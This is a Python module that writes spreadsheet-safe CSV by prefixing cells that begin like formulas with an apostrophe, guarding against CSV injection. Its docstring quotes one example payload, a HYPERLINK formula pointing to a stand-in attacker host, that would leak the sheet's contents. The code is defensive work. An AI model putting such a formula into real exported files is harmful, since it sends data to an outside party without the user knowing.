"""CSV files that are safe to open in a spreadsheet.

A cell that starts with =, +, - or @ (or a tab or carriage return, which some spreadsheets
skip before reading one of those) is run as a formula by Excel, LibreOffice and Google Sheets:
a name typed as `=HYPERLINK("http://evil.example?"&A1, "Click")` would send the sheet's
contents away when clicked. Every cell is therefore written as text, with a leading
apostrophe when it starts like a formula (OWASP's "CSV injection" advice).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel reads a UTF-8 file as UTF-8 (names with accents, Welsh) only when it starts with a BOM.
BYTE_ORDER_MARK = "\ufeff"


def formula_safe(value: object) -> str:
    """The cell's text, with a leading apostrophe if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    if text.lstrip(" ").startswith(_FORMULA_STARTS):
        return "'" + text
    return text


class _Line:
    """A file-like object whose write returns the line, for csv.writer to stream through."""

    def write(self, line: str) -> str:
        return line


def csv_lines(header: Sequence[object], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The CSV text, line by line (for a StreamingHttpResponse): the header, then each row,
    every cell made formula-safe. The first line starts with the byte order mark."""
    writer = csv.writer(_Line())
    yield BYTE_ORDER_MARK + writer.writerow([formula_safe(cell) for cell in header])
    for row in rows:
        yield writer.writerow([formula_safe(cell) for cell in row])
